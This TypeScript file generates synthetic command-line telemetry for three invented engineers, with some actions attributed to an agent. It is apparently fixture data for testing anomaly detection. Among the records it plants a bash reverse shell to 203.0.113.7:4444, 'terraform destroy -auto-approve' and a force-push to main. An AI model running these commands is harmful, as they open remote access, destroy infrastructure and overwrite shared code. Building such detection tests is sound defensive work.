import { day, type Instant, minute } from "../../lib/domain/units.js";
import { type Random, random } from "../../lib/sample/random.js";

/** One line of plain telemetry. */
export interface PlainRecord {
  readonly id: string;
  readonly time: string;
  readonly user: string;
  readonly host: string;
  readonly session: string;
  readonly command: string;
  readonly agent?: string;
}

/** Monday morning of an invented fortnight. */
export const start: Instant = Date.UTC(2026, 2, 2, 8);

const habits: Readonly<Record<string, readonly string[]>> = {
  ada: ["git status", "git commit -m wip", "git push origin feature/basket", "npm test", "npm run lint", "ls src"],
  grace: [
    "terraform plan",
    "terraform apply",
    "kubectl get pods -n shop",
    "git pull",
    "make deploy-staging",
    "git log",
  ],
  margaret: ["psql -c 'select 1' shop", "python3 report.py", "git status", "sudo systemctl restart report", "ls data"],
};

/** What nobody does every day: day of the fortnight, who, and what. */
const planted: readonly (readonly [number, string, string])[] = [
  [3, "margaret", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
  [9, "ada", "terraform destroy -auto-approve"],
  [10, "grace", "git push --force origin main"],
  [11, "ada", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
  [11, "margaret", "terraform destroy -auto-approve"],
];

const pick = <Value>(values: readonly Value[], draw: Random): Value => {
  const value = values[Math.floor(draw() * values.length)];
  if (value === undefined) throw new Error("pick requires values, got none");
  return value;
};

/** Days of three engineers at work, in order of time; a third of what is usual is done by an agent. */
export function workOf(seed: number, { days = 12, perDay = 12, from = start } = {}): readonly PlainRecord[] {
  const draw = random(seed, "work");
  const records: PlainRecord[] = [];
  const record = (today: number, user: string, command: string, byAgent = false): void => {
    const at = from + today * day + Math.floor(draw() * 8 * 60) * minute + records.length;
    records.push({
      id: `${seed}-${records.length}`,
      time: new Date(at).toISOString(),
      ...{ user, command, host: `${user}-laptop.example`, session: `${user}-${today}` },
      ...(byAgent ? { agent: "claude-code" } : {}),
    });
  };
  for (let today = 0; today < days; today += 1) {
    for (const [user, commands] of Object.entries(habits))
      for (let i = 0; i < perDay; i += 1) record(today, user, pick(commands, draw), draw() < 1 / 3);
    for (const [when, user, command] of planted) if (when === today) record(today, user, command);
  }
  return records.sort((a, b) => (a.time < b.time ? -1 : 1));
}
